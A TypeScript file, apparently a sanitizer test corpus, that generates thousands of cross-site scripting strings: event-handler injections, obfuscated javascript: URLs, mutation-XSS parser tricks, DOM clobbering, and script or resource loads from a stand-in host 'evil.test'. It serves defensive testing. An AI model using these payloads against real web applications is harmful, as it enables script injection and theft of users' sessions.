/**
 * Strings that try to run a script, to fetch something from elsewhere or to change the page, put together from small
 * parts: what carries them, how they are written, and what a parser may take them for. `hit(1)` is what must not run,
 * `evil.test` what must not be asked.
 */

import { behaviours, breakouts, broken, encoded } from "./attack-lines.ts";

const run = "hit(1)";
const image = `<img src=x onerror=${run}>`;

/** `one` for each item, joined with each of `others`. */
function each<A, B>(ones: readonly A[], others: readonly B[], make: (one: A, other: B) => string): string[] {
  return ones.flatMap((one) => others.map((other) => make(one, other)));
}

const words = (text: string) => text.split(" ");

const events = words(
  "onload onerror onclick ondblclick onmouseover onmouseenter onmousemove onmousedown onwheel onpointerover onpointerrawupdate onfocus onfocusin onblur onkeydown oninput onchange onbeforeinput onsubmit onreset onselect oncontextmenu oncopy onpaste ondrag ondrop onscroll onscrollend onresize ontoggle onbeforetoggle oncancel onclose oncanplay onloadstart onloadeddata onplay ontimeupdate onanimationstart onanimationend ontransitionrun ontransitionend onpageshow onhashchange onmessage onpopstate onbegin onend onrepeat onshow onstart onfinish onbounce oncontentvisibilityautostatechange onsecuritypolicyviolation onslotchange onwebkitanimationstart ontouchstart onauxclick onbeforematch oncommand onsnapchanged",
);
const elements = words(
  "a abbr img p div table td ul figure h2 body svg video audio details marquee input x-own isindex object keygen",
);
const handlers = [
  ...events.map((event, index) => `<${elements[index % elements.length]} ${event}=${run}>x`),
  ...elements.map((element) => `<${element} autofocus tabindex=1 onfocus=${run} style=display:block>x`),
];

/** Separators between an attribute name and its handler, and quotes around the handler. */
const gaps = [" ", "/", "\n", "\t", "\f", "\r", " / ", "\u00a0", "\0", " x=`", " x='\"' ", "\v", "/x/"];
const quotes: [string, string][] = [
  ["", ""],
  ['"', '"'],
  ["'", "'"],
  ["`", "`"],
  [" '", "'//"],
  ['"', ""],
];
const written = each(gaps, quotes, (gap, [open, close]) => `<img src=x${gap}onerror=${open}${run}${close}>`);

const schemes = words(
  "javascript vbscript livescript data:text/html,<script>hit(1)</script>// view-source feed:javascript jar mocha",
);
const disguises: ((scheme: string) => string)[] = [
  (scheme) => scheme,
  (scheme) => scheme.toUpperCase(),
  (scheme) => ` \u0001\u0008${scheme}`,
  (scheme) => `&#1;${scheme}`,
  (scheme) => scheme.replace(/^(..)/, "$1\t"),
  (scheme) => scheme.replace(/^(..)/, "$1&#10;"),
  (scheme) => scheme.replace(/^(..)/, "$1&NewLine;"),
  (scheme) => scheme.replace(/^(..)/, "$1&#x0D;"),
  (scheme) => scheme.replace(/^(..)/, "$1\0"),
  (scheme) => scheme.replace(/./g, (c) => `&#${c.charCodeAt(0)};`),
  (scheme) => scheme.replace(/./g, (c) => `&#x${c.charCodeAt(0).toString(16)}`),
  (scheme) => scheme.replace(/./g, (c) => `&#000000${c.charCodeAt(0)}`),
  (scheme) => scheme.replace(/./g, (c) => `%${c.charCodeAt(0).toString(16)}`),
  (scheme) => scheme.replace(/./, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
];
const urls = each(schemes, disguises, (scheme, disguise) => `${disguise(scheme)}:${run}`).concat(
  disguises.map((disguise) => `${disguise("javascript")}&colon;${run}`),
  ["javascript://%0a", "javascript:/*--></title></style></textarea>*/", "java script:", "javascript&#58"].map(
    (start) => start + run,
  ),
);

/** Markup with a URL; `#` is its place. */
const carriers = [
  ...words("a area base link").map((name) => `<${name} rel=stylesheet href="#">x</${name}>`),
  ...words("iframe frame embed input script video audio source track bgsound portal xml img").map(
    (name) => `<${name} type=image src="#">`,
  ),
  ...words("img lowsrc dynsrc srcset").map((name) => `<img ${name}="#">`),
  ...words("body table td th tr").map((name) => `<${name} background="#">x`),
  ...words("blockquote q del ins").map((name) => `<${name} cite="#">x</${name}>`),
  '<form action="#"><input type=submit></form>',
  '<form><button formaction="#">x</button></form>',
  '<object data="#"></object>',
  '<applet code="#" archive="#"></applet>',
  '<video poster="#"></video>',
  '<picture><source srcset="#"><img src=x></picture>',
  '<meta http-equiv=refresh content="0;url=#">',
  '<a ping="#" href="/">x</a>',
  '<html manifest="#">',
  '<svg><a xlink:href="#"><text y=20>x</text></a></svg>',
  '<svg><use href="#x"/><image xlink:href="#"/><feImage href="#"/></svg>',
  '<svg><a><set attributeName=href to="#"/><animate attributeName=href values="#"/>x</a></svg>',
  '<svg><script xlink:href="#"></script><style>@import "#";</style></svg>',
  '<math href="#">x</math><math><mi xlink:href="#">x</mi></math>',
  '<iframe srcdoc="&lt;script src=#&gt;&lt;/script&gt;"></iframe>',
  '<link rel=prefetch href="#"><link rel=preload as=script href="#"><link rel=modulepreload href="#">',
  '<link rel=dns-prefetch href="#"><link rel=preconnect href="#"><link rel=icon href="#"><link rel=manifest href="#">',
  '<link rel=stylesheet href="#"><style>@import url(#);*{background:url(#)}</style>',
  "<p style=\"background:url(#);list-style-image:url('#')\">x</p>",
  "<p style='behavior:url(#);-moz-binding:url(#)'>x</p>",
  '<script type=module>import "#"</script><script type=speculationrules>{"prefetch":[{"urls":["#"]}]}</script>',
  '<oembed url="#"></oembed><figure><iframe src="#"></iframe></figure>',
];
const elsewhere = words(
  "https://evil.test/a //evil.test/a \\\\evil.test\\a /\\evil.test/a \t//evil.test/a https:evil.test/a http:/evil.test/a ///evil.test/a https://user@evil.test/a https://www.youtube.com@evil.test/embed/aaaaaaaaaaa https://www.youtube.com.evil.test/embed/aaaaaaaaaaa data:image/svg+xml,<svg/onload=hit(1)> //evil。test/a https://backend.test.evil.test/a.png",
);
const addressed = carriers.flatMap((carrier, index) => [
  // Every carrier with a few disguises in turn, so that all of them meet without all of their products.
  ...[0, 29, 58, 87].map((step) => carrier.replaceAll("#", urls[(index * 5 + step) % urls.length] ?? "")),
  ...elsewhere.map((address) => carrier.replaceAll("#", address)),
]);
const links = urls.map((url) => `<a href="${url}">x</a>`).concat(urls.map((url) => `<img src='${url}'>`));

/** Markup that parsers read differently: what a sanitizer keeps must mean the same to a browser. */
const foreign = [
  "<svg>#</svg>",
  "<math>#</math>",
  "<svg></p>#",
  "<math></br>#",
  "<svg><foreignObject>#</foreignObject></svg>",
  "<svg><desc>#</desc></svg>",
  "<math><mtext>#</mtext></math>",
  "<math><mtext><table><mglyph>#</mglyph></table></mtext></math>",
  '<math><annotation-xml encoding="text/html">#</annotation-xml></math>',
  "<form><math><mtext></form><form><mglyph>#</mglyph></form></mtext></math>",
  "<table><tr><td><svg>#</svg></td></tr></table>",
];
const raw = words(
  "style script title textarea noscript xmp iframe noembed noframes template select option listing",
);
const mutated = foreign.flatMap((outer) =>
  raw.flatMap((name) => [
    outer.replace("#", `<${name}><!--</${name}>${image}-->`),
    outer.replace("#", `<${name}><a title="</${name}>${image}">`),
  ]),
);
const rawAlone = raw.flatMap((name) => [
  `<${name}><p title="</${name}>${image}"></${name}>`,
  `<${name}></${name} x>${image}</${name}>`,
  `<${name}>&lt;/${name}&gt;${image}</${name}>`,
]);

/** Names that a script would look for in the document. */
const clobbering = each(
  ["id", "name"],
  words("document location body forms cookie getElementById hit content __next main"),
  (by, name) =>
    `<img ${by}=${name} src=x><a ${by}=${name} href="/">x</a><form ${by}=${name}><input ${by}=action></form>`,
);

/** All of them, each once. */
export const attacks: readonly string[] = [
  ...new Set([
    ...handlers,
    ...written,
    ...addressed,
    ...links,
    ...mutated,
    ...rawAlone,
    ...broken,
    ...encoded,
    ...behaviours,
    ...breakouts,
    ...clobbering,
  ]),
];
